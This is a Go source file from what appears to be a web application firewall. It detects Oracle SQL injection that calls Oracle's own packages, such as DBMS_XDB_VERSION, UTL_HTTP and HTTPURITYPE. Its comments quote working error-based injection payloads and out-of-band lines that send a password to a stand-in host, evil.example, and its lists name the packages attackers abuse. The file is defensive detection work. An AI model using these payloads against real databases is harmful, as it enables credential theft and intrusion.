package waf

import "strings"

// oracleFunction is rule 210101's operator: a function called with a
// subquery as its argument (subqueryArgument), or a call of a function in
// one of Oracle's own packages (oraclePackageCall).
func oracleFunction(v string) bool { return subqueryArgument(v) || oraclePackageCall(v) }

// oracleSchemas are the schemas of Oracle's own options whose packages
// and types no one else names: Multimedia (ORDSYS.ORD_DICOM), Text
// (CTXSYS.CTX_REPORT, CTXSYS.DRITHSX), Spatial (MDSYS), Workspace
// Manager (WMSYS), OLAP (OLAPSYS), Label Security (LBACSYS), Expression
// Filter (EXFSYS), Database Vault (DVSYS).
var oracleSchemas = []string{"ordsys", "ctxsys", "mdsys", "wmsys", "olapsys", "lbacsys", "exfsys", "dvsys"}

// oraclePackages are packages of Oracle's options that public synonyms
// name without their schema and that injections call (ORD_DICOM for
// ORDSYS.ORD_DICOM, CTX_REPORT for CTXSYS.CTX_REPORT, SDO_UTIL for
// MDSYS.SDO_UTIL), the web packages OWA_UTIL and APEX_WEB_SERVICE (which
// fetches a URL), and the packages of Oracle's own that SQL injection
// cheat sheets and Oracle's security guidance name (oracleInjectionPackages).
// Since attack 77 also CTX_THES (CTX_THES.SN, over CTXSYS.DRITHSX.SN:
// "thesaurus <value> does not exist") and LT (WMSYS.LT).
// The other CTX_, SDO_ and ORD_ synonyms are not read bare: an
// application's ctx_query.count(x) is not Oracle Text's (a review).
var oraclePackages = []string{"ord_dicom", "ord_dicom_admin", "ctx_report", "ctx_thes", "sdo_util", "owa_util", "apex_web_service", "lt"}

// oracleInjectionPackages are the packages of Oracle's own that SQL
// injections call, by what they give an attacker: an error message that
// holds their argument (DBMS_XDB_VERSION.CHECKIN, DBMS_AW_XML,
// DBMS_XMLGEN and DBMS_XMLQUERY, which also run the query text they are
// given, DBMS_UTILITY.SQLID_TO_SQLHASH), a request to a host the attacker
// names (UTL_HTTP, UTL_INADDR, UTL_TCP, UTL_SMTP, UTL_MAIL, UTL_DBWS,
// DBMS_LDAP, DBMS_LDAP_UTL, DBMS_NETWORK_ACL_ADMIN's grants), a delay
// (DBMS_PIPE.RECEIVE_MESSAGE, DBMS_LOCK.SLEEP, DBMS_SESSION.SLEEP), files
// (UTL_FILE, DBMS_ADVISOR, DBMS_XSLPROCESSOR, DBMS_BACKUP_RESTORE), or
// code run as another user (DBMS_JAVA, DBMS_JAVA_TEST, DBMS_SCHEDULER,
// DBMS_JOB, DBMS_IJOB, DBMS_SQL, DBMS_SYS_SQL, DBMS_EXPORT_EXTENSION,
// DBMS_METADATA, DBMS_AQ, DBMS_AQADM, DBMS_JVM_EXP_PERMS,
// DBMS_REPCAT_RPC, the change data capture packages DBMS_CDC_*, and
// KUPP$PROC.CREATE_MASTER_PROCESS). Oracle's everyday packages
// (DBMS_OUTPUT, DBMS_LOB, DBMS_CRYPTO, DBMS_STATS, DBMS_RANDOM) and an
// application's own dbms_client or utl_functions are not among them.
var oracleInjectionPackages = []string{"dbms_xdb_version", "dbms_xdb", "dbms_xdbutil", "dbms_aw_xml", "dbms_ldap", "dbms_ldap_utl", "dbms_pipe",
	"dbms_lock", "dbms_session", "dbms_xmlgen", "dbms_xmlquery", "dbms_xmlstore", "dbms_xslprocessor", "dbms_java", "dbms_java_test",
	"dbms_scheduler", "dbms_job", "dbms_ijob", "dbms_sql", "dbms_sys_sql", "dbms_utility", "dbms_export_extension", "dbms_metadata",
	"dbms_network_acl_admin", "dbms_aq", "dbms_aqadm", "dbms_jvm_exp_perms", "dbms_repcat_rpc", "dbms_advisor", "dbms_backup_restore",
	"utl_http", "utl_inaddr", "utl_tcp", "utl_smtp", "utl_file", "utl_mail", "utl_dbws", "kupp$proc"}

// oracleURITypes are Oracle's URI types, whose constructors fetch a URL
// (HTTPURITYPE(...).GETCLOB() reads a web page from the database server)
// or read the database by a path (DBURITYPE, XDBURITYPE), and XMLTYPE,
// whose parser names what it cannot read (XMLTYPE.CREATEXML('<:'||
// password||'>'): LPX-00110, attack 77).
var oracleURITypes = []string{"httpuritype", "dburitype", "xdburitype", "xmltype"}

// oraclePackageCall is rule 210101's second reading: a call (a name, then
// white space or comments, then a bracket) of a function in one of
// Oracle's own packages and schemas, where an injected expression stands
// (injectedCall: the value's start, after an operator, a bracket, a comma
// or a word of SQL's conditions, CASE among them). The name is read in
// parts, bare or in double quotes ("SYS"."DBMS_XDB_VERSION"."CHECKIN"),
// at most four, and a database link after it (@loopback, @a.b.c) is read
// up to the bracket; it is Oracle's when a part before the function's is
// one of the packages injections use (oracleInjectionPackages:
// dbms_xdb_version.checkin, sys.dbms_aw_xml.readawmetadata,
// utl_http.request, dbms_ldap.init; a DBMS_CDC_ package; oraclePackages),
// when its schema is one of oracleSchemas
// (ordsys.ord_dicom.getmappingxpath, ctxsys.ctx_report.token_type), or
// when a part is one of oracleURITypes (httpuritype(...),
// sys.httpuritype.createuri(...)).
//
// Oracle's error-based reads put a column's value in an error message
// through these functions, and its out-of-band reads send it to a host the
// attacker names: x' and 1=dbms_xdb_version.checkin(password)--,
// x'||ctxsys.ctx_report.token_type(password,user)||',
// x'||dbms_ldap.init(password||'.evil.example',389)||',
// x'||httpuritype('http://evil.example/'||password).getclob()||', and in
// a sort slot the whole value ordsys.ord_dicom.getmappingxpath(password,
// user,user) or name,dbms_xdb_version.checkin(password). Rule 210101's
// first reading needs a subquery as the argument, and the CRS names
// utl_http, utl_inaddr, dbms_pipe and ctxsys.drithsx only (libinjection
// reads some of them after a quote): all passed both (a fresh-eyes
// attack, attack 74). A review then found x' and 1=case
// dbms_xdb_version.checkin(password) when 1 then 1 end (CASE was no
// injected position) and x'||dbms_xdb_version.checkin@loopback(password)||'
// (a database link between the name and its bracket) passing, and any
// DBMS_ or UTL_ name refused in prose and code: "Is
// DBMS_CRYPTO.HASH(src, 2) deterministic?", "Then
// DBMS_OUTPUT.PUT_LINE(v) prints it", result = dbms_client.query(sql),
// x = utl_functions.parse(data), q = ctx_query.count(x). Those pass now,
// as do "use DBMS_STATS to gather statistics", "the UTL_FILE package",
// "dbms_xdb_version.checkin is an Oracle package" and Python's sys.exit(1)
// (sys is a schema only before one of the packages). A forum post that
// quotes an injection's package with a call after an operator, a bracket
// or a word such as exec, call or case (exec dbms_lock.sleep(5)) is
// refused: the price. Linear: each name is read once, at most four parts
// of 64 bytes and a link's four, and the comments before its bracket are
// searched once (sqlReader).
func oraclePackageCall(v string) bool {
	if indexFold(v, "dbms_") < 0 && indexFold(v, "utl_") < 0 && indexFold(v, "sys") < 0 && indexFold(v, "uritype") < 0 &&
		indexFold(v, "ord") < 0 && indexFold(v, "ctx_") < 0 && indexFold(v, "sdo_") < 0 && indexFold(v, "owa_") < 0 && indexFold(v, "apex_") < 0 && indexFold(v, "kupp") < 0 {
		return false
	}
	var r *sqlReader
	for i := 0; i < len(v); i++ {
		if c := v[i]; !identByte(c, "\"") || c >= '0' && c <= '9' || i > 0 && (identByte(v[i-1], "$#\"") || v[i-1] == '.') {
			continue
		}
		if r == nil {
			r = newSQLReader(v)
		}
		// the parts, white space and comments around their dots
		// (Oracle's parser takes dbms_xdb_version . checkin)
		var parts [4]string
		n, e, end := 0, i, i
		for n < len(parts) {
			k, text, _ := sqlNamePart(v, e)
			if k == e {
				break
			}
			parts[n], n, end = text, n+1, k
			d := r.skip(k)
			if d >= len(v) || v[d] != '.' {
				break
			}
			e = r.skip(d + 1)
		}
		if n == 0 {
			continue
		}
		start := i
		i = max(i, end-1)
		if !oracleName(parts[:n]) {
			continue
		}
		b := r.skip(end)
		if b < len(v) && v[b] == '@' {
			// a database link, dbms_xdb_version.checkin@loopback(...)
			// (a review): its name's parts, then the bracket
			e := r.skip(b + 1)
			for range 4 {
				k, _, _ := sqlNamePart(v, e)
				if k == e {
					break
				}
				if e = r.skip(k); e >= len(v) || v[e] != '.' {
					break
				}
				e = r.skip(e + 1)
			}
			b = e
		}
		if b < len(v) && v[b] == '(' && injectedCall(v, start) {
			return true
		}
	}
	return false
}

// oracleName: the parts of a name (oraclePackageCall) name a function of
// Oracle's own: one of oracleInjectionPackages or oraclePackages, or a
// DBMS_CDC_ package, before the last part, a schema of oracleSchemas first, or an URI type
// anywhere.
func oracleName(parts []string) bool {
	for k, p := range parts {
		if k < len(parts)-1 && hasPrefixFold(p, "dbms_cdc_") {
			return true
		}
		if k < len(parts)-1 {
			for _, q := range oraclePackages {
				if strings.EqualFold(p, q) {
					return true
				}
			}
			for _, q := range oracleInjectionPackages {
				if strings.EqualFold(p, q) {
					return true
				}
			}
		}
		for _, t := range oracleURITypes {
			if strings.EqualFold(p, t) {
				return true
			}
		}
	}
	if len(parts) < 2 {
		return false
	}
	for _, s := range oracleSchemas {
		if strings.EqualFold(parts[0], s) {
			return true
		}
	}
	return false
}

// hasPrefixFold: v starts with the ASCII prefix lower (lowercase) in any
// case.
func hasPrefixFold(v, lower string) bool {
	return len(v) >= len(lower) && strings.EqualFold(v[:len(lower)], lower)
}
